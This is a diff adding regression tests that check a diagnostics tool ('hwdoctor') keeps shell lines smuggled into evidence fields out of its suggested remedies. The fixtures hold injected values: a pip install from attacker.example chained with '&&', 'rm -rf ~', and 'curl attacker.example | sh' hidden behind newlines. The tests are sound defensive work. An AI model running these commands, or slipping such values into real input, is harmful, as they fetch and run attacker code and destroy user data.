@@ -49,6 +49,57 @@ def assert_clean(result: Result, *codes: int) -> None:
         assert result.stderr.count("\n") == 1 and result.stderr.startswith("hwdoctor: error:")
 
 
+# --- 1. values from evidence in remedies --------------------------------------------------------
+
+INJECTED = "torch-fix && pip install --index-url https://attacker.example/simple torch"
+
+
+def _injecting(*, newlines: bool) -> dict[str, Any]:
+    """The red team's issue body: an evidence file whose failure names the autoload step of
+    a distribution that is a shell line; with `newlines`, a version and a path that hold
+    line breaks too."""
+
+    def change(document: dict[str, Any]) -> None:
+        document["failures"] = [{"step": f"autoload {INJECTED}", "kind": "error",
+                                 "error": {"type": "ImportError", "message": "x"},
+                                 "output": "", "autoload": True}]  # fmt: skip
+        document["entry_points"] = [{"name": "fix", "value": "torch_fix:init", "dist": INJECTED}]
+        document["torch"]["importable"] = False
+        if newlines:
+            document["torch"]["version"] = "2.1.0\nrm -rf ~"
+            document["python"]["executable"] = "/usr/bin/python3\ncurl attacker.example | sh"
+
+    return changed(change)
+
+
+def test_a_shell_line_in_evidence_never_reaches_a_remedy(tmp_path: Path) -> None:
+    """It used to be posted as `python -m pip uninstall -y torch-fix && pip install
+    --index-url https://attacker.example/simple torch` in the reply's `sh` fence."""
+    path = written(tmp_path, _injecting(newlines=False), "body.md")
+    for args in (("--format", "markdown"), ()):
+        assert_clean(run_hwdoctor("detect", "--from", str(path), *args), 0, 1)
+    document = run_hwdoctor("detect", "--from", str(path), "--json").json()["data"]
+    (autoload,) = [f for f in document["findings"] if f["code"] == "torch.autoload_broken"]
+    lines = autoload["remedy"].splitlines()
+    assert all(line.startswith("#") or "attacker" not in line for line in lines), lines
+    assert any("is not a package name (PEP 508)" in line for line in lines), lines
+    assert "entry_points item dist" in " ".join(document["skipped"])
+
+
+def test_a_line_break_in_a_version_or_a_path_starts_no_line(tmp_path: Path) -> None:
+    """A newline inside `torch.version` or `python.executable` used to start a free line
+    inside a remedy's comment lines."""
+    path = written(tmp_path, _injecting(newlines=True), "body.md")
+    for args in (("--format", "markdown"), ("--json",), ()):
+        result = run_hwdoctor("detect", "--from", str(path), *args)
+        assert_clean(result, 0, 1)
+        shown = [line.strip() for line in result.stdout.splitlines()]
+        assert "rm -rf ~" not in shown and "curl attacker.example | sh" not in shown
+    document = run_hwdoctor("detect", "--from", str(path), "--json").json()["data"]
+    skipped = " ".join(document["skipped"])
+    assert "torch version" in skipped and "python executable" in skipped
+
+
 # --- 2. a count from the file is iterated ------------------------------------------------------
 
 
